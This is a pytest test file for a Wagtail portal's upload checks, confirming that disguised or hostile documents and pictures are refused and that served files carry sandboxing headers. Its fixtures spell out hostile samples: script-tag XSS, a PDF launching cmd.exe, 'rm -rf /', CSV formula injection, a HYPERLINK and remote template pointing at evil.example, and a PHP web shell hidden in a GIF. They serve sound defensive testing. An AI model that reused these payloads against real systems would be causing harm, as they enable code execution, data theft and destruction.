"""Alice uploads what somebody sent her. What would run, or is not what it says, is refused with a sentence; the rest is sent as it is."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.urls import reverse
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from accounts.models import User
from documents.tables import xlsx_bytes
from explainers import document_files, pictures
from explainers.unsafe import NotSafe
from tests.access_world import page_tree
from tests.documents.test_pdf import report
from theme.csp import UPLOADED, SecurityHeadersMiddleware

SCRIPT = b"<script>alert(document.cookie)</script>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8), mode: str = "RGB") -> bytes:
    file = io.BytesIO()
    Image.new(mode, size).save(file, kind)
    return file.getvalue()


def archive(**parts: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return file.getvalue()


def word(**more: bytes) -> bytes:
    return archive(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", **more})


def pdf(objects: bytes) -> bytes:
    return PDF.replace(b"trailer", objects + b"\ntrailer")


def objects_compressed(objects: bytes) -> bytes:
    return b"2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + zlib.compress(objects) + b"\nendstream\nendobj"


def locked(data: bytes) -> bytes:
    """The flag of encryption, in both headers of each entry."""
    local, central = b"PK\x03\x04\x14\0", b"PK\x01\x02\x14\x03\x14\0"
    return data.replace(local + b"\0\0", local + b"\x01\0").replace(central + b"\0\0", central + b"\x01\0")


TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
HOSTILE_DOCUMENTS = {
    "a page named as a PDF": ("charte.pdf", b"<!doctype html>" + SCRIPT),
    "a page before the PDF": ("charte.pdf", SCRIPT + PDF),
    "a page inside the first bytes of a PDF": ("charte.pdf", PDF.replace(b"1 0 obj", b"%" + SCRIPT + b"\n1 0 obj")),
    "a page after the PDF": ("charte.pdf", PDF + SCRIPT),
    "a PDF that is an archive too": ("charte.pdf", PDF + archive(a=b"a") + b"%%EOF"),
    "a PDF with a script": ("charte.pdf", pdf(b"3 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj")),
    "a PDF with a script under an escaped name": ("charte.pdf", pdf(b"3 0 obj << /S /J#61vaScript >> endobj")),
    "a PDF with a script among compressed objects": ("charte.pdf", pdf(objects_compressed(b"3 0 << /S /JavaScript >>"))),
    "a PDF that starts a program": ("charte.pdf", pdf(b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
    "a PDF with a file inside": ("charte.pdf", pdf(b"3 0 obj << /Type /EmbeddedFile >> endobj")),
    "a PDF under a password": ("charte.pdf", PDF.replace(b"/Root", b"/Encrypt 4 0 R /Root")),
    "a PDF cut short": ("charte.pdf", PDF[:40]),
    "a program named as a PDF": ("charte.pdf", b"MZ\x90\0" + b"\0" * 100),
    "a page": ("charte.html", b"<!doctype html>" + SCRIPT),
    "a drawing with a script": ("plan.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
    "a script": ("charte.js", b"alert(1)"),
    "a program": ("charte.exe", b"MZ\x90\0"),
    "a file without kind": ("charte", b"charte"),
    "a name written backwards": ("charte\u202efdp.exe.txt", b"charte"),
    "a page named as a text": ("charte.txt", SCRIPT),
    "a page in UTF-16 named as a text": ("charte.txt", SCRIPT.decode().encode("utf-16-le")),
    "a shell script named as a text": ("charte.txt", b"#!/bin/sh\nrm -rf /"),
    "a CSV that starts a program": ("agents.csv", b"nom;poste\nBernard;=cmd|' /C calc'!A0"),
    "a CSV that sends what it holds": ("agents.csv", b'nom,poste\nBernard,"=HYPERLINK(""http://evil.example"")"'),
    "a Word document with macros": ("charte.docx", word(**{"word/vbaProject.bin": b"macro"})),
    "a Word document with an embedded program": ("charte.docx", word(**{"word/embeddings/oleObject1.bin": b"MZ"})),
    "a Word document that fetches its template": ("charte.docx", word(**{"word/_rels/settings.xml.rels": TEMPLATE})),
    "an archive named as a Word document": ("charte.docx", archive(**{"run.exe": b"MZ"})),
    "a workbook named as a Word document": ("charte.docx", archive(**{"[Content_Types].xml": b"", "xl/workbook.xml": b""})),
    "a page before a Word document": ("charte.docx", SCRIPT + word()),
    "a Word document under a password": ("charte.docx", locked(word())),
    "an OpenDocument text with macros": ("a.odt", archive(mimetype=document_files.OPEN[".odt"], **{"Basic/Standard/Module1.xml": b""})),
    "an OpenDocument text of another kind": ("a.odt", archive(mimetype=b"text/html")),
    "a document that unpacks to gigabytes": ("charte.docx", word(**{"word/media/bomb.xml": b"\0" * (document_files.MEGABYTE + 1)})),
}
HOSTILE_PICTURES = {
    "a page named as a picture": ("plan.png", b"<!doctype html>" + SCRIPT),
    "a page after the picture": ("plan.png", picture() + SCRIPT),
    "a program of the server in a comment": ("plan.gif", picture("GIF") + b"<?php system($_GET['c']); ?>"),
    "a picture that is an archive too": ("plan.jpg", picture("JPEG") + archive(a=b"a")),
    "a picture that is a PDF too": ("plan.png", picture() + PDF),
    "a JPEG named as a PNG": ("plan.png", picture("JPEG")),
    "a picture cut short": ("plan.png", picture(size=(200, 200))[:150]),
    "a drawing": ("plan.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "a picture of sixty-four million points": ("plan.png", picture("PNG", (8_000, 8_000), "1")),
}


@pytest.mark.parametrize("said", HOSTILE_DOCUMENTS)
def test_a_hostile_document_is_refused_with_a_sentence(said, monkeypatch):
    monkeypatch.setattr(document_files, "LARGEST_UNPACKED", document_files.MEGABYTE)  # the bomb of the test is small
    name, content = HOSTILE_DOCUMENTS[said]
    with pytest.raises(NotSafe) as refused:
        document_files.judge(io.BytesIO(content), name)
    assert str(refused.value.sentence).endswith(".")


@pytest.mark.parametrize("said", HOSTILE_PICTURES)
def test_a_hostile_picture_is_refused_with_a_sentence(said):
    name, content = HOSTILE_PICTURES[said]
    with pytest.raises(NotSafe):
        pictures.judge(io.BytesIO(content), name)


GOOD = {
    "charte.pdf": PDF,
    "rapport.pdf": None,
    "agents.xlsx": xlsx_bytes("Agents", ["Nom"], [["Bernard"]]),
    "charte.docx": word(),
    "charte.odt": archive(mimetype=document_files.OPEN[".odt"], **{"content.xml": b"<a/>"}),
    "charte.txt": "Répondre, puis écouter : « oui ».".encode(),
    "agents.csv": "nom;téléphone;écart\nBernard;+33(0)6 12 34 56 78;-3".encode(),
    "plan.png": picture(),
    "plan.jpg": picture("JPEG"),
    "plan.webp": picture("WEBP"),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_people_write_is_accepted_and_left_at_its_beginning(name):
    content = GOOD[name] or report()
    file = io.BytesIO(content)
    document_files.judge(file, name)
    assert file.tell() == 0


@pytest.fixture
def editor(admin_client):
    page_tree()
    return admin_client


def test_the_form_of_documents_refuses_in_words_and_keeps_nothing(editor):
    name, content = HOSTILE_DOCUMENTS["a PDF with a script"]
    answer = editor.post(reverse("wagtaildocs:add"), {"title": "Charte", "file": SimpleUploadedFile(name, content), "tags": ""})
    assert "contient un programme" in answer.content.decode()
    many = editor.post(reverse("wagtaildocs:add_multiple"), {"files[]": SimpleUploadedFile(name, content)})
    assert many.json()["success"] is False and "contient un programme" in many.json()["error_message"]
    assert not get_document_model().objects.exists()


def test_the_form_of_pictures_refuses_in_words_and_keeps_nothing(editor):
    name, content = HOSTILE_PICTURES["a page after the picture"]
    answer = editor.post(reverse("wagtailimages:add"), {"title": "Plan", "file": SimpleUploadedFile(name, content), "tags": ""})
    assert "cache autre chose" in answer.content.decode()
    assert not get_image_model().objects.exists()


def test_a_good_picture_and_a_good_document_are_kept(editor):
    editor.post(reverse("wagtailimages:add"), {"title": "Plan", "file": SimpleUploadedFile("plan.png", GOOD["plan.png"]), "tags": ""})
    editor.post(reverse("wagtaildocs:add"), {"title": "Charte", "file": SimpleUploadedFile("charte.pdf", PDF), "tags": ""})
    assert get_image_model().objects.count() == get_document_model().objects.count() == 1


@pytest.mark.parametrize(
    ("name", "kind", "saved"),
    [
        ("charte.pdf", "application/pdf", False),
        ("agents.csv", "text/csv; charset=utf-8", True),
        ("plan.png", "image/png", True),
        ("charte.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", True),
    ],
)
def test_a_document_is_sent_with_its_type_apart_from_the_portal(client, alice: User, name, kind, saved):
    document = get_document_model()(title="Charte")
    document.file.save(name, ContentFile(GOOD[name]))
    client.force_login(alice)
    answer = client.get(document.url)
    assert b"".join(answer.streaming_content) == GOOD[name]
    assert answer["Content-Type"] == kind and answer["X-Content-Type-Options"] == "nosniff"
    assert answer.get("Content-Disposition", "").startswith("attachment") == saved
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'") and "script-src" not in policy and ("sandbox" in policy or not saved)


def test_a_picture_is_sent_in_a_sandbox_whatever_sends_it(rf):
    sent = SecurityHeadersMiddleware(lambda request: HttpResponse(GOOD["plan.png"], content_type="image/png"))
    answer = sent(rf.get("/media/images/plan.png"))
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == UPLOADED and "sandbox" in UPLOADED
